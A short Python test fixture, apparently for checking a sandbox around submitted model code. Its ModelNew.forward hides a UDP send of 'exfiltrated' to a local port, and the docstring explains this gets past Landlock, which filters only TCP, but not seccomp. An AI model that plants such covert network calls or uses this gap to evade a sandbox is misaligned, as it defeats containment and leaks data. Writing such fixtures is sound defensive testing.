"""Exploit: the same leak over UDP (Landlock's network rules cover TCP only; seccomp covers every family)."""
import socket

import torch
import torch.nn as nn

PORT = {port}


class ModelNew(nn.Module):
    def __init__(self, d_in, d_out):
        super().__init__()
        self.lin = nn.Linear(d_in, d_out)

    def forward(self, x):
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"exfiltrated", ("127.0.0.1", PORT))
        return torch.relu(self.lin(x)) * 2.0
